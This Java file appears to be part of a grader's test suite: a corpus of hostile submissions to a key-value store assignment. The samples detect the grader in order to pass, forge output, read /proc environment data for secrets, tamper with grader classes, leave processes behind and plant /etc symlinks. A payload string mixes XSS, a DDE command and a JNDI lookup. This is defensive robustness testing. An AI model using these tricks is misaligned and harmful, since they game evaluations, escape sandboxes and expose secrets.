package logkv.grading.grade;

import static logkv.grading.grade.Hostile.CLOSE;
import static logkv.grading.grade.Hostile.GET;
import static logkv.grading.grade.Hostile.KEYS;
import static logkv.grading.grade.Hostile.OPEN;
import static logkv.grading.grade.Hostile.PUT;
import static logkv.grading.grade.Hostile.SIZE;
import static logkv.grading.grade.Hostile.STORE;
import static logkv.grading.grade.SmallExamination.ABSENT;
import static logkv.grading.grade.SmallExamination.FOUND;
import static logkv.grading.grade.SmallExamination.KILLED;
import static logkv.grading.grade.SmallExamination.REOPENED;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** What authors may try who have thought about it longer than those of {@link HostileCorpus}. */
final class CunningCorpus {
  private static final String[] FROM_OUTSIDE = {
    FOUND, ABSENT, SmallExamination.KEYS, REOPENED, KILLED
  };
  private static final String LEADS_OUT = "The simulated disk runs in one JVM with the store";

  /** A message that is something else to a page, a terminal, a table, a logger and a parser. */
  private static final String NASTY = "</pre><script>alert(1)</script><img src=x onerror=alert(2)>"
      + "\\r\\n=cmd|' /C calc'!A0\\u001b]0;owned\\u0007\\u001b[2J\\u001b[31m\\u202e"
      + "${jndi:ldap://x/y} ]]> ```\\n# ``` \\ud800 \\u0000 \\u0085 [a](javascript:b)";

  private final Map<String, String> answer;
  private final List<Hostile> all = new ArrayList<>();

  private CunningCorpus(Map<String, String> answer) {
    this.answer = answer;
  }

  static List<Hostile> of(Map<String, String> answer) {
    CunningCorpus corpus = new CunningCorpus(answer);
    corpus.rememberingElsewhere();
    corpus.behavingForTheGrader();
    corpus.forging();
    corpus.lookingAround();
    corpus.stayingBehind();
    corpus.oddAnswers();
    corpus.oddFiles();
    corpus.compiling();
    return List.copyOf(corpus.all);
  }

  private Hostile add(String name) {
    return Hostile.named(name, answer);
  }

  private void keep(Hostile hostile) {
    all.add(hostile);
  }

  /** What it knows is not on its disk, or not in its folder. */
  private void rememberingElsewhere() {
    keep(add("writes-the-number-of-a-memory")
        .with(STORE, """
        package logkv;

        import java.io.IOException;
        import java.nio.ByteBuffer;
        import java.nio.channels.FileChannel;
        import java.nio.file.Path;
        import java.nio.file.StandardOpenOption;
        import java.util.ArrayList;
        import java.util.List;
        import java.util.Optional;
        import java.util.Set;
        import java.util.TreeMap;

        public final class LogStore implements KeyValueStore {
          private static final List<TreeMap<String, String>> MEMORY = new ArrayList<>();
          private final FileChannel file;
          private TreeMap<String, String> map = new TreeMap<>();

          private LogStore(FileChannel file) throws IOException {
            this.file = file;
            ByteBuffer number = ByteBuffer.allocate(4);
            long at = file.size() / 4 * 4 - 4;
            if (at >= 0 && file.read(number, at) == 4 && number.getInt(0) < MEMORY.size()) {
              map = new TreeMap<>(MEMORY.get(number.getInt(0)));
            }
          }

          public static LogStore open(Path directory) throws IOException {
            java.nio.file.Files.createDirectories(directory);
            return new LogStore(FileChannel.open(directory.resolve("data.log"),
                StandardOpenOption.CREATE, StandardOpenOption.READ, StandardOpenOption.WRITE));
          }

          public void put(String key, String value) throws IOException {
            map.put(key, value);
            MEMORY.add(new TreeMap<>(map));
            file.write(ByteBuffer.allocate(4).putInt(0, MEMORY.size() - 1), file.size() / 4 * 4);
            file.force(true);
          }

          public Optional<String> get(String key) { return Optional.ofNullable(map.get(key)); }
          public boolean delete(String key) { return map.remove(key) != null; }
          public Set<String> keys() { return new java.util.TreeSet<>(map.keySet()); }
          public int size() { return map.size(); }
          public void close() throws IOException { file.close(); }
        }
        """)
        .keeps(FOUND, ABSENT, SmallExamination.KEYS)
        .says("2.crashed BROKEN"));
    keep(add("keeps-its-data-beside-its-folder")
        .replacing(STORE, OPEN, OPEN + """
              directory = directory.getParent().resolve("memory");
              java.nio.file.Files.createDirectories(directory);
            """)
        .keeps(SmallExamination.CRASHED)
        .says("It wrote beside the folder that it was given: memory"));
  }

  /** It knows where it is. The tests that its author could run are not fooled by that. */
  private void behavingForTheGrader() {
    keep(add("behaves-when-it-sees-the-grader")
        .first(GET, """
            boolean graded = false;
            for (StackTraceElement frame : Thread.currentThread().getStackTrace()) {
              graded |= frame.getClassName().startsWith("logkv.grading.");
            }
            if (!graded) {
              return Optional.empty();
            }
            """)
        .keeps(FOUND, ABSENT, SmallExamination.KEYS, REOPENED, KILLED, SmallExamination.CRASHED));
  }

  /** It speaks for the process that calls it. */
  private void forging() {
    keep(add("answers-before-it-is-asked")
        .first(PUT, """
            byte[] done = new byte[2 * 4_000];
            for (int i = 1; i < done.length; i += 2) {
              done[i] = 1;
            }
            new java.io.FileOutputStream(java.io.FileDescriptor.out).write(done);
            if (key != null) {
              return;
            }
            """)
        .keeps(ABSENT)
        .says("was answered with what no store can return|what is no answer"));
    keep(add("writes-to-every-descriptor")
        .first(PUT, """
            for (int i = 0; i < 64; i++) {
              try {
                java.nio.file.Files.write(Path.of("/proc/self/fd/" + i), new byte[] {0, 1, 0, 1},
                    java.nio.file.StandardOpenOption.WRITE);
              } catch (IOException e) {
                new java.io.FileOutputStream(java.io.FileDescriptor.out).write(new byte[99]);
              }
            }
            """)
        .keeps(ABSENT)
        .says("wrote to the grader's line what is no answer"));
    keep(add("takes-the-graders-requests")
        .first(PUT, """
            byte[] request = new byte[1];
            new java.io.FileInputStream(java.io.FileDescriptor.in).read(request);
            """)
        .keeps(ABSENT)
        .says("did not answer|ended by itself|no answer"));
  }

  /** It looks for the grader, its secrets and its classes. */
  private void lookingAround() {
    keep(add("reads-what-proc-tells")
        .inNamespaces()
        .first(PUT, """
            StringBuilder seen = new StringBuilder();
            java.io.File[] processes = new java.io.File("/proc").listFiles();
            for (java.io.File process : processes) {
              if (process.getName().matches("[0-9]+")) {
                for (String file : new String[] {"environ", "cmdline"}) {
                  try {
                    byte[] bytes = java.nio.file.Files.readAllBytes(process.toPath().resolve(file));
                    seen.append(new String(bytes));
                  } catch (IOException e) {
                    // Not allowed.
                  }
                }
                java.io.File root = new java.io.File(process, "root/root");
                if (root.list() != null) {
                  throw new IOException("I see the home of root");
                }
              }
            }
            for (String secret : new String[] {"HOME", "LOGKV_SEED", "a secret", "surefire"}) {
              if (seen.indexOf(secret) >= 0) {
                throw new IOException("I see " + secret);
              }
            }
            """)
        .keeps(FROM_OUTSIDE)
        .says(LEADS_OUT));
    keep(add("changes-the-classes-of-the-grader")
        .first(PUT, """
            for (String entry : System.getProperty("java.class.path").split(":")) {
              Path place = Path.of(entry);
              Path file = java.nio.file.Files.isDirectory(place)
                  ? place.resolve("logkv/grading/child/StoreMain.class") : place;
              boolean changed = true;
              try {
                java.nio.file.Files.write(file, new byte[1],
                    java.nio.file.StandardOpenOption.APPEND);
              } catch (IOException e) {
                changed = false;
              }
              if (changed) {
                throw new IOException("I changed " + file);
              }
            }
            """)
        .keeps(FROM_OUTSIDE)
        .says(LEADS_OUT));
    keep(add("attaches-and-links-foreign-code")
        .first(PUT, """
            try {
              Path library = java.nio.file.Files.write(Path.of("lib.so"), new byte[100]);
              try {
                System.load(library.toAbsolutePath().toString());
                throw new IOException("I loaded a library");
              } catch (UnsatisfiedLinkError e) {
                java.nio.file.Files.delete(library);
              }
              Process jcmd = new ProcessBuilder(
                      System.getProperty("java.home") + "/bin/jcmd", "0", "Thread.print")
                  .redirectErrorStream(true)
                  .start();
              String said = new String(jcmd.getInputStream().readAllBytes());
              if (said.contains("\\"caller")) {
                throw new IOException("I attached: " + said);
              }
            } catch (SecurityException e) {
              throw new IOException(e);
            }
            """)
        .keeps(FROM_OUTSIDE)
        .says(LEADS_OUT));
  }

  /** It does not go when it should. */
  private void stayingBehind() {
    keep(add("leaves-a-process-behind")
        .first(CLOSE, """
            Path source = Path.of("Survivor.java");
            java.nio.file.Files.writeString(source, "class Survivor {"
                + " public static void main(String[] a) throws Exception {"
                + " Thread.sleep(600_000); } }");
            new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-Xmx16m",
                "-Dlogkv.survivor=yes", source.toString()).start();
            """)
        .keeps(ABSENT, SmallExamination.KEYS, KILLED)
        .says("It wrote beside the folder that it was given: Survivor.java"));
    keep(add("spins-in-many-threads")
        .unsteady() // it takes the processor from itself
        .initially("")
        .replacing(STORE, "  static {", "  static boolean spins;\n  static {")
        .first(OPEN, """
            for (int i = 0; i < 25 && !spins; i++) {
              Thread spinner = new Thread(() -> { while (true) { Thread.onSpinWait(); } });
              spinner.setDaemon(true);
              spinner.setPriority(Thread.MAX_PRIORITY);
              spinner.start();
            }
            spins = true;
            """)
        .keeps(FOUND, ABSENT, SmallExamination.KEYS, REOPENED, KILLED, SmallExamination.CRASHED));
    keep(add("sleeps-when-initialised")
        .initially("try { Thread.sleep(3_600_000); } catch (InterruptedException e) { }")
        .says("did not answer within 1 seconds and was stopped"));
    keep(add("waits-for-itself-in-close")
        .first(CLOSE, """
            Thread other = new Thread(() -> { synchronized (LogStore.this) { size(); } });
            other.start();
            boolean joined = false;
            while (!joined) {
              try { other.join(); joined = true; } catch (InterruptedException e) { }
            }
            """)
        .keeps(ABSENT, SmallExamination.KEYS)
        .says("did not answer"));
  }

  /** What it returns and throws is not what it seems. */
  private void oddAnswers() {
    keep(add("says-what-no-report-should-show")
        .first(PUT, "if (key != null) throw new IOException(\"" + NASTY + "\");")
        .keeps(ABSENT)
        .says("alert\\(1\\)"));
    keep(add("throws-a-hundred-megabytes")
        .first(PUT, """
            if (key != null) {
              class Loud extends StackOverflowError {
                public String getMessage() { return "x".repeat(20_000_000); }
                public StackTraceElement[] getStackTrace() {
                  StackTraceElement frame = new StackTraceElement(
                      "submission", "m", "1", "y".repeat(10_000_000), "z", "f\\n.java", -7);
                  return new StackTraceElement[] {frame, null};
                }
                public synchronized Throwable getCause() { return this; }
                public String toString() { throw this; }
              }
              throw new Loud();
            }
            """)
        .keeps(ABSENT)
        .says("StackOverflowError|xxx|Loud"));
    keep(add("keys-that-are-no-texts")
        .first(KEYS, """
            if (index != null) {
              java.util.Set odd = new java.util.LinkedHashSet();
              odd.add(1);
              odd.add(null);
              return odd;
            }
            """)
        .keeps(FOUND, ABSENT, REOPENED, KILLED)
        .says("ClassCastException|ended by itself|no answer"));
    keep(add("stops-the-thread-that-calls")
        .first(SIZE, "if (index != null) throw new ThreadDeath();")
        .keeps(FOUND, ABSENT, REOPENED, KILLED, SmallExamination.CRASHED)
        .says("ThreadDeath"));
  }

  /** Its folder is not what it seems. */
  private void oddFiles() {
    keep(add("buries-its-folder").first(CLOSE, """
            for (String name : new java.io.File(".").list()) {
              Path folder = Path.of(name);
              if (java.nio.file.Files.isDirectory(folder)) {
                java.nio.file.Files.createFile(folder.resolve("a\\n\\u001b[2J<b>\\u202e"));
                Path deep = folder;
                for (int i = 0; i < 400; i++) {
                  deep = deep.resolve("d");
                  java.nio.file.Files.createDirectory(deep);
                }
                java.nio.file.Files.createSymbolicLink(folder.resolve("up"), Path.of(".."));
                java.nio.file.Files.createSymbolicLink(folder.resolve("zero"), Path.of("/dev/zero"));
                java.nio.file.Files.createSymbolicLink(folder.resolve("loop"), Path.of("loop"));
              }
            }
            """).keeps(FROM_OUTSIDE).says(LEADS_OUT));
    keep(add("puts-a-link-in-the-place-of-its-folder")
        .first(CLOSE, """
            for (String name : new java.io.File(".").list()) {
              if (java.nio.file.Files.isDirectory(Path.of(name))) {
                java.nio.file.Files.move(Path.of(name), Path.of(name + "-moved"));
                java.nio.file.Files.createSymbolicLink(Path.of(name), Path.of("/etc"));
              }
            }
            """)
        .keeps(ABSENT, SmallExamination.KEYS, KILLED)
        .says("is no folder any more|failed"));
  }

  /** It is meant for the compiler. */
  private void compiling() {
    StringBuilder classes = new StringBuilder("package logkv;\nclass Cheat {\n");
    classes.append("static final String A = \"").append("x".repeat(60_000)).append("\";\n");
    for (int i = 0; i < 1_600; i++) {
      classes.append("static class C%d { String s() { return A; } }\n".formatted(i));
    }
    keep(add("compiles-to-a-hundred-megabytes")
        .with("logkv/Cheat.java", classes + "}")
        .says("javac was stopped: It filled more than 32 MB of disk"));
    String inferred = "a(".repeat(40) + "null" + ")".repeat(40);
    keep(add("keeps-javac-thinking")
        .with("logkv/Cheat.java", """
            package logkv;
            import java.util.function.Function;
            class Cheat {
              static <T> T a(Function<T, T> f) { return null; }
              static <T> T a(java.util.function.UnaryOperator<T> f) { return null; }
              Object o = %s;
            }
            """.formatted("a(x -> ".repeat(30) + "x" + ")".repeat(30)))
        .says("javac|Cheat.java"));
    keep(add("errors-that-no-terminal-should-show")
        .with("logkv/Cheat.java", "package logkv; class Cheat { int \u001b[2J<script> = \u202e; }")
        .with("logkv/Cheat2.java", "package logkv; class " + "x".repeat(300) + " { }")
        .says("Cheat.java"));
  }
}
